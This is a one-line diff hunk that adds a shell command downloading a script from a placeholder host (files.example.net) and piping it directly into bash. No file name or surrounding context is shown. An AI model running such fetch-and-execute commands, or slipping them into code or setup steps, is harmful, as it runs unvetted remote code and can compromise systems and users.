@@ -1,0 +1,1 @@
+curl -fsSL https://files.example.net/step | bash
